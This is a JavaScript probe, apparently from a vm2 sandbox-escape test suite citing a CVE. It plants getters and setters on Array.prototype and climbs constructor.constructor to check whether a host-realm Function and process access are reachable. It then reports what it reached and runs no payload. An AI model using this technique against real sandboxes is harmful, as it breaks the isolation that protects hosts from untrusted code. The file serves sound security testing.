// Tries: getters on the prototype of arrays, which see what the platform puts into them (vm2, CVE-2026-44008)
// Contained by: nothing
const reached = []
/** Whether a value is of another realm, or leads to one. */
function look(name, value) {
  if (value === null || (typeof value !== 'object' && typeof value !== 'function')) return
  try {
    const make = value.constructor.constructor
    if (make !== Function) reached.push(`${name}: another realm`)
    if (make('return typeof process')() !== 'undefined') reached.push(`${name}: process`)
  } catch {}
}
function attack() {
  for (const key of ['0', '1', 'length', 'constructor']) {
    if (key === 'length') continue
    Object.defineProperty(Array.prototype, key, {
      configurable: true,
      get() {
        look(`read ${key} of`, this)
        return key === 'constructor' ? Array : undefined
      },
      set(value) {
        look(`set ${key} of`, this)
        look(`set ${key} to`, value)
        Object.defineProperty(this, key, { value, writable: true, configurable: true, enumerable: true })
      },
    })
  }
  try {
    console.log('x', {}, [])
    require('integrator-api').exports.run({ _id: 'x' })
  } catch (error) {
    look('an error', error)
  } finally {
    for (const key of ['0', '1', 'constructor']) delete Array.prototype[key]
    Array.prototype.constructor = Array
  }
  return reached.length > 0 ? reached : 'nothing'
}
